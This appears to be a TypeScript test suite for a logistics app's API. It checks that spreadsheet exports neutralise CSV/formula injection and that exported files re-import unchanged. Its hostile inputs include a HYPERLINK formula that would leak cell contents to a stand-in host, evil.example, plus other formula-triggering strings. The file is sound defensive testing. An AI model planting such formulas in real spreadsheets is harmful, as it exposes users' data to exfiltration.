import { type EntityDef, entityByName, ROLE_ADMIN } from '@lms/domain';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { importableEntities } from '../src/import/routes.ts';
import { referencedEntities, sampleBody } from './entityFactory.ts';
import { call, createBranch, createUser, signIn } from './fixtures.ts';
import { setupTestServer } from './harness.ts';
import { postFile } from './importCalls.ts';

/**
 * Issue "Hardening 2", item 8: text that a spreadsheet would read as a formula (= + - @ TAB CR) leaves
 * no export as one (OWASP CSV injection: a `'` before it), and an exported file imports back exactly.
 * The spreadsheet routes are found in the OpenAPI, not listed here; the records are the first of this
 * database, so the import templates' examples are hostile too.
 */

const server = setupTestServer();
let token = '';
let branchId = '';

const SPREADSHEET = /spreadsheetml|text\/csv/;
const FORMULA_START = /^[=+\-@\t\r]/;

/** Texts a spreadsheet would run, and texts that merely look escaped; `n` keeps unique fields unique. */
const HOSTILE = [
  // No comma: a refs cell lists references with commas, and a code with one names no reference.
  (n: number) => `=HYPERLINK("http://evil.example/?d="&A2&"${n}")`,
  (n: number) => `+${n}+1`,
  (n: number) => `-${n}-1`,
  (n: number) => `@SUM(${n})`,
  (n: number) => `'=${n}`,
  (n: number) => `''+${n}`,
  (n: number) => `\t=${n}`,
  (n: number) => `'x${n}`,
];

let serial = 0;
/** How many of `HOSTILE` start as a formula would (the rest only look escaped). */
const FORMULA_KINDS = 4;

/**
 * A hostile text for a field. A code always starts like a formula: it leads a reference's label
 * ("code: name"), so an entity whose only texts are references (a price list's vehicle type) exports
 * one too, whatever order the records were made in.
 */
const hostileText = (field: string) =>
  HOSTILE[serial++ % (field === 'code' ? FORMULA_KINDS : HOSTILE.length)]!(serial);
const refIds: Record<string, string> = {};
/** A spreadsheet route that needs more than the branch in its query: what it needs. */
const queries: Record<string, string> = {
  '/api/performance/figures.xlsx': 'from=2026-10-01&to=2026-10-31',
  '/api/performance/branches/figures.xlsx': 'from=2026-10-01&to=2026-10-31',
  '/api/performance/branches/stops.xlsx': 'from=2026-10-01&to=2026-10-31',
  '/api/performance/branches/trips.xlsx': 'from=2026-10-01&to=2026-10-31',
  '/api/performance/branches/bookings.xlsx': 'from=2026-10-01&to=2026-10-31',
};
/** A spreadsheet route with a path parameter, and the path of a record made for it in `beforeAll`. */
const pathIds: Record<string, string> = {};

/** One record of `entity` whose free texts are hostile (a text the schema refuses is left as sampled). */
async function createHostile(entity: EntityDef): Promise<string> {
  const sample = sampleBody(entity, { ...refIds, branch: branchId });
  const body = { ...sample };
  for (const field of entity.fields)
    if ((field.type === 'string' || field.type === 'text') && !field.format && field.name in body)
      body[field.name] = hostileText(field.name).slice(0, field.maxLength ?? 255);
  const path = `/${entity.name}${entity.branchOwned ? `?branchId=${branchId}` : ''}`;
  for (let attempt = 0; attempt < 4; attempt++) {
    const created = await call(server.api, 'POST', path, { token, body });
    if (created.status === 201) return created.body.id;
    const refused = Object.keys(created.body.errors ?? {}).filter((name) => name in sample);
    if (created.status !== 422 || refused.length === 0)
      throw new Error(`${entity.name}: ${created.status} ${JSON.stringify(created.body)}`);
    for (const name of refused) body[name] = sample[name];
  }
  throw new Error(`${entity.name}: no hostile record could be created`);
}

beforeAll(async () => {
  branchId = await createBranch(server.db, 'FRM', 'สาขาสูตร');
  token = await signIn(
    server.api,
    await createUser(server.db, { roles: [ROLE_ADMIN], branchIds: [branchId] }),
  );
  for (const entity of importableEntities()) {
    for (const name of referencedEntities(entity)) refIds[name] ??= await createHostile(entityByName(name));
    await createHostile(entity);
  }
  // The freight statement's workbook (docs/freight.md): the hostile contractor's, with a hostile adjustment reason.
  const draft = await call(server.api, 'POST', `/freightStatements?branchId=${branchId}`, {
    token,
    body: { contractorId: refIds.contractor, month: '2026-10' },
  });
  if (draft.status !== 201)
    throw new Error(`freight statement: ${draft.status} ${JSON.stringify(draft.body)}`);
  const adjusted = await call(
    server.api,
    'POST',
    `/freightStatements/${draft.body.id}/adjustments?branchId=${branchId}`,
    {
      token,
      body: { version: draft.body.version, amount: -1, reason: HOSTILE[0]!(serial++) },
    },
  );
  if (adjusted.status !== 200)
    throw new Error(`adjustment: ${adjusted.status} ${JSON.stringify(adjusted.body)}`);
  pathIds['/api/freightStatements/{id}/statement.xlsx'] =
    `/api/freightStatements/${draft.body.id}/statement.xlsx`;
});

/** Every GET the OpenAPI says answers a spreadsheet. */
async function spreadsheetRoutes(): Promise<{ path: string; branch: boolean }[]> {
  const doc = await (await fetch(`${server.api}/docs/json`)).json();
  return Object.entries(
    doc.paths as Record<string, Record<string, { parameters?: { name: string }[]; responses?: object }>>,
  ).flatMap(([path, ops]) => {
    const get = ops.get;
    const types = Object.values(get?.responses ?? {}).flatMap((r) => Object.keys(r.content ?? {}));
    if (!get || !types.some((t) => SPREADSHEET.test(t))) return [];
    return [{ path, branch: (get.parameters ?? []).some((p) => p.name === 'branchId') }];
  });
}

async function download(path: string): Promise<ExcelJS.Workbook> {
  const response = await fetch(`${server.origin}${path}`, { headers: { authorization: `Bearer ${token}` } });
  expect(response.status, path).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load((await response.arrayBuffer()) as ArrayBuffer);
  return workbook;
}

describe('every spreadsheet the API answers', () => {
  it('writes no text a spreadsheet would read as a formula; numbers stay numbers', async () => {
    const routes = await spreadsheetRoutes();
    expect(routes.length).toBeGreaterThan(2 * importableEntities().length - 1);
    const escaped = new Map<string, number>();
    for (const route of routes) {
      const path = pathIds[route.path] ?? route.path;
      expect(path, 'a spreadsheet route with a path parameter: give this test its ids').not.toMatch(/\{/);
      const query = [route.branch ? `branchId=${branchId}` : '', queries[route.path] ?? '']
        .filter(Boolean)
        .join('&');
      const workbook = await download(`${path}${query ? `?${query}` : ''}`);
      workbook.eachSheet((sheet) =>
        sheet.eachRow((row) =>
          row.eachCell((cell) => {
            const value = cell.value;
            if (typeof value !== 'string') return;
            expect(value, `${path} ${sheet.name}!${cell.address}`).not.toMatch(FORMULA_START);
            if (/^'+[=+\-@\t\r]/.test(value)) escaped.set(path, (escaped.get(path) ?? 0) + 1);
          }),
        ),
      );
    }
    // The hostile records came out (escaped) of each entity's export and of templates' examples.
    expect(
      importableEntities()
        .filter((entity) => !escaped.get(`/api/${entity.name}/export`))
        .map((e) => e.name),
      'exports without an escaped hostile text',
    ).toEqual([]);
    expect(
      escaped.get(pathIds['/api/freightStatements/{id}/statement.xlsx']!),
      'freight statement',
    ).toBeGreaterThan(0);
    expect([...escaped.keys()].filter((path) => path.endsWith('/import/template')).length).toBeGreaterThan(0);
    // A number is written as a number (a negative one is no text to escape).
    const vehicleType = await download(`/api/vehicleType/export`);
    const weight = entityByName('vehicleType').fields.findIndex((f) => f.name === 'maxCapacityWeight');
    expect(typeof vehicleType.worksheets[0]!.getRow(2).getCell(weight + 1).value).toBe('number');
  });
});

describe('export → import', () => {
  it.each(importableEntities().map((e) => [e.name, e] as const))(
    '%s: the hostile texts come back exactly (every row unchanged)',
    async (_name, entity) => {
      const scope = entity.branchOwned ? `branchId=${branchId}&` : '';
      const exported = await fetch(`${server.api}/${entity.name}/export?${scope}`, {
        headers: { authorization: `Bearer ${token}` },
      });
      const bytes = new Uint8Array(await exported.arrayBuffer());
      const report = await postFile(
        `${server.api}/${entity.name}/import?${scope}dryRun=false`,
        token,
        bytes,
        `${entity.name}.xlsx`,
      );
      expect(report.status, report.text.slice(0, 1000)).toBe(200);
      const changed = report.body.rows.filter((r: { status: string }) => r.status !== 'unchanged');
      expect(changed, JSON.stringify(changed).slice(0, 2000)).toEqual([]);
      expect(report.body.total).toBeGreaterThan(0);
    },
  );
});
